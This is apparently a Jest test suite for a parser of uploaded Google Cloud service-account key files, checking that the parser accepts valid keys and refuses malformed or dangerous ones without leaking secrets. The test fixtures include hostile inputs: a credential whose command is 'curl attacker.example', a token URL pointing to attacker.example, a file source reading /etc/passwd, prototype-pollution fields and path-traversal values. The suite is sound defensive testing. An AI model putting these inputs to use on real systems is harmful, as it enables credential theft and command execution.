import { describe, expect, it } from '@jest/globals';
import { Secret } from '@offload/service-kit';
import { generateKeyPairSync, sign, verify } from 'node:crypto';
import { inspect } from 'node:util';
import { readKeyFile } from './read-key-file.ts';

const { privateKey, publicKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
const pem = privateKey.export({ type: 'pkcs8', format: 'pem' }) as string;

const project = 'customer-project';
const email = `offload-security-scanner@${project}.iam.gserviceaccount.com`;
const document = {
  type: 'service_account',
  project_id: project,
  private_key_id: 'a1'.repeat(20),
  private_key: pem,
  client_email: email,
  client_id: '123456789012345678901',
  auth_uri: 'https://accounts.google.com/o/oauth2/auth',
  token_uri: 'https://oauth2.googleapis.com/token',
  auth_provider_x509_cert_url: 'https://www.googleapis.com/oauth2/v1/certs',
  client_x509_cert_url: `https://www.googleapis.com/robot/v1/metadata/x509/${encodeURIComponent(email)}`,
  universe_domain: 'googleapis.com',
};

const canary = 'canary-in-the-upload';
const text = (changes: object = {}): string => JSON.stringify({ ...document, ...changes });
const without = (name: string): string => JSON.stringify(Object.fromEntries(Object.entries(document).filter(([key]) => key !== name)));
const read = (upload: string): ReturnType<typeof readKeyFile> => readKeyFile(new Secret(upload));

describe('reading a service account key', () => {
  it('copies four fields of the file that Google gives out', () => {
    const key = read(text());

    if (!key.ok) throw new Error(key.error.code);
    const { privateKey: kept, ...others } = key.value;
    expect(others).toEqual({ kind: 'GCP_SERVICE_ACCOUNT_KEY', clientEmail: email, projectId: project, privateKeyId: 'a1'.repeat(20) });
    const signed = sign('RSA-SHA256', Buffer.from('assertion'), kept.reveal());
    expect(verify('RSA-SHA256', Buffer.from('assertion'), publicKey, signed)).toBe(true);
  });

  it('keeps the same key however its file is formatted', () => {
    const kept = [
      text(),
      JSON.stringify(document, null, 2),
      text({ private_key: privateKey.export({ type: 'pkcs1', format: 'pem' }) }),
      text({ private_key: `\n${pem}\n` }),
    ]
      .map(read)
      .map((key) => (key.ok ? key.value.privateKey.reveal() : key.error.code));

    expect(new Set(kept)).toEqual(new Set([pem]));
  });

  it('shows the private key nowhere but where it is asked for', () => {
    const key = read(text());

    const line = pem.split('\n')[1]!;
    expect(inspect(key, { depth: 10, showHidden: true })).not.toContain(line);
    expect(JSON.stringify(key)).not.toContain(line);
  });

  it.each([
    [
      'of a domain-scoped project',
      { project_id: 'example.com:my-project', client_email: 'a-name@my-project.example.com.iam.gserviceaccount.com' },
    ],
    ['of Compute Engine, which lives outside its project', { client_email: '123456789012-compute@developer.gserviceaccount.com' }],
    ['of App Engine', { client_email: 'customer-project@appspot.gserviceaccount.com' }],
  ])('takes an account %s', (_what, changes) => {
    expect(read(text(changes))).toMatchObject({ ok: true });
  });

  it.each(['universe_domain', 'token_uri', 'auth_uri', 'client_id'])('does not need %s, which older files lack', (name) => {
    expect(read(without(name))).toMatchObject({ ok: true });
  });

  const rsa = (bits: number): string =>
    generateKeyPairSync('rsa', { modulusLength: bits }).privateKey.export({ type: 'pkcs8', format: 'pem' }) as string;
  const elliptic = generateKeyPairSync('ec', { namedCurve: 'P-256' }).privateKey.export({ type: 'pkcs8', format: 'pem' }) as string;
  const encrypted = privateKey.export({ type: 'pkcs8', format: 'pem', cipher: 'aes-256-cbc', passphrase: 'x' }) as string;

  const externalAccount = {
    type: 'external_account',
    audience: '//iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/p/providers/p',
    subject_token_type: 'urn:ietf:params:oauth:token-type:jwt',
    token_url: `https://attacker.example/${canary}`,
    credential_source: { file: '/etc/passwd' },
  };

  it.each([
    ['KEY_FILE_TOO_LARGE', 'more than 16 KB', text({ padding: 'x'.repeat(16 * 1024) })],
    ['KEY_FILE_TOO_LARGE', 'more than 16 KB of what takes several bytes', text({ padding: '€'.repeat(6 * 1024) })],
    ['KEY_FILE_NOT_JSON', 'nothing', ''],
    ['KEY_FILE_NOT_JSON', 'a key in PEM form', pem],
    ['KEY_FILE_NOT_JSON', 'half a file', text().slice(0, 900)],
    ['KEY_FILE_NOT_JSON', 'two files', text() + text()],
    ['KEY_FILE_NOT_JSON', 'thousands of open brackets', '['.repeat(16_000)],
    ['KEY_FILE_NOT_AN_OBJECT', 'deep nesting', '['.repeat(8_000) + ']'.repeat(8_000)],
    ['KEY_FILE_NOT_AN_OBJECT', 'an array', `[${text()}]`],
    ['KEY_FILE_NOT_AN_OBJECT', 'a string that holds a file', JSON.stringify(text())],
    ['KEY_FILE_NOT_AN_OBJECT', 'null', 'null'],
    ['KEY_FILE_NOT_AN_OBJECT', 'a number', '42'],
    ['KEY_FILE_DUPLICATE_FIELD', 'a second type', `{"type":"external_account",${text().slice(1)}`],
    ['KEY_FILE_DUPLICATE_FIELD', 'a second type in other letters', `{"\\u0074ype":"external_account",${text().slice(1)}`],
    ['KEY_FILE_DUPLICATE_FIELD', 'a second private key at the end', `${text().slice(0, -1)}, "private_key" : "x"}`],
    ['KEY_FILE_FORBIDDEN_FIELD', '__proto__', `{"__proto__":{"type":"service_account"},${text().slice(1)}`],
    ['KEY_FILE_FORBIDDEN_FIELD', '__proto__ in other letters', `{"\\u005f_proto__":"x",${text().slice(1)}`],
    ['KEY_FILE_FORBIDDEN_FIELD', 'constructor', text({ constructor: 'x' })],
    ['KEY_FILE_NESTED_FIELD', 'an object as a field', text({ credential_source: { file: '/etc/passwd' } })],
    ['KEY_FILE_NESTED_FIELD', 'a deep field', text({ deep: JSON.parse('['.repeat(2_000) + ']'.repeat(2_000)) as unknown })],
    ['KEY_FILE_NESTED_FIELD', 'a key that is an array', text({ private_key: [pem] })],
    ['KEY_FILE_NESTED_FIELD', 'a null', text({ client_id: null })],
    ['KEY_TYPE_MISSING', 'no type', without('type')],
    ['KEY_TYPE_MISSING', 'an empty object', '{}'],
    ['UNKNOWN_KEY_TYPE', 'another type', text({ type: 'something_else' })],
    ['UNKNOWN_KEY_TYPE', 'a type that is a method of objects', text({ type: 'toString' })],
    ['UNKNOWN_KEY_TYPE', 'a type that is an array', text({ type: ['service_account'] })],
    ['UNKNOWN_KEY_TYPE', 'a type in capital letters', text({ type: 'SERVICE_ACCOUNT' })],
    ['EXTERNAL_ACCOUNT_NOT_ACCEPTED', 'an external account that reads local files', JSON.stringify(externalAccount)],
    [
      'EXTERNAL_ACCOUNT_NOT_ACCEPTED',
      'an external account that runs programs',
      JSON.stringify({ ...externalAccount, credential_source: { executable: { command: 'curl attacker.example' } } }),
    ],
    ['EXTERNAL_ACCOUNT_NOT_ACCEPTED', 'an external account beside all fields of a key', text(externalAccount)],
    ['EXTERNAL_ACCOUNT_USER_NOT_ACCEPTED', 'a workforce sign-in', text({ type: 'external_account_authorized_user' })],
    [
      'AUTHORIZED_USER_NOT_ACCEPTED',
      "gcloud's own sign-in",
      JSON.stringify({ type: 'authorized_user', refresh_token: canary, client_secret: canary }),
    ],
    [
      'IMPERSONATED_SERVICE_ACCOUNT_NOT_ACCEPTED',
      'an impersonation',
      JSON.stringify({ type: 'impersonated_service_account', source_credentials: externalAccount }),
    ],
    ['GDCH_NOT_ACCEPTED', 'a key of Distributed Cloud', text({ type: 'gdch_service_account' })],
    ['OAUTH_CLIENT_NOT_ACCEPTED', 'an OAuth client', JSON.stringify({ installed: { client_secret: canary } })],
    ['UNSUPPORTED_UNIVERSE', 'another universe', text({ universe_domain: 'attacker.example' })],
    ['UNSUPPORTED_TOKEN_URI', 'another token endpoint', text({ token_uri: `https://attacker.example/${canary}` })],
    ['UNSUPPORTED_TOKEN_URI', 'the token endpoint without encryption', text({ token_uri: 'http://oauth2.googleapis.com/token' })],
    ['MALFORMED_CLIENT_EMAIL', "a person's address", text({ client_email: 'somebody@example.com' })],
    ['MALFORMED_CLIENT_EMAIL', 'no address', without('client_email')],
    ['MALFORMED_CLIENT_EMAIL', 'an address with a line break', text({ client_email: `${email}\n` })],
    ['MALFORMED_CLIENT_EMAIL', 'an address whose domain only begins right', text({ client_email: `${email}.attacker.example` })],
    ['MALFORMED_PROJECT_ID', 'no project', without('project_id')],
    ['MALFORMED_PROJECT_ID', 'a project with a path', text({ project_id: '../../v1/projects/other' })],
    ['INCONSISTENT_KEY_FILE', 'an account of another project', text({ project_id: 'another-project' })],
    ['MALFORMED_PRIVATE_KEY_ID', 'no key id', without('private_key_id')],
    ['MALFORMED_PRIVATE_KEY_ID', 'a key id with a path', text({ private_key_id: `../${'a'.repeat(37)}` })],
    ['MALFORMED_PRIVATE_KEY', 'no private key', without('private_key')],
    ['MALFORMED_PRIVATE_KEY', 'a damaged private key', text({ private_key: pem.replaceAll('A', 'B') })],
    ['MALFORMED_PRIVATE_KEY', 'a private key with its line breaks lost', text({ private_key: pem.replaceAll('\n', '\\n') })],
    ['MALFORMED_PRIVATE_KEY', 'an encrypted private key', text({ private_key: encrypted })],
    ['MALFORMED_PRIVATE_KEY', 'a public key', text({ private_key: publicKey.export({ type: 'spki', format: 'pem' }) })],
    ['UNSUPPORTED_PRIVATE_KEY', 'an elliptic key', text({ private_key: elliptic })],
    ['WEAK_PRIVATE_KEY', 'an RSA key of 1024 bits', text({ private_key: rsa(1024) })],
  ])('%s: %s', (code, _what, upload) => {
    const refused = read(upload);

    if (refused.ok) throw new Error('it was read');
    expect(refused.error).toMatchObject({ code, field: 'serviceAccountKey' });
    expect(refused.error.remedy).not.toBe('');
    const said = JSON.stringify(refused.error);
    for (const secret of [canary, pem.split('\n')[1]!, 'attacker.example', '/etc/passwd']) expect(said).not.toContain(secret);
  });

  it('never becomes slow, whatever is uploaded', () => {
    const uploads = [
      `{"${'\\"'.repeat(8_000)}`,
      `{${'"a":{'.repeat(2_700)}`,
      text({ client_email: `${'a-'.repeat(7_000)}@` }),
      text({ project_id: `${'a.'.repeat(7_000)}:` }),
    ];
    const startedAt = performance.now();

    for (const upload of uploads) expect(read(upload)).toMatchObject({ ok: false });

    expect(performance.now() - startedAt).toBeLessThan(1_000);
  });
});
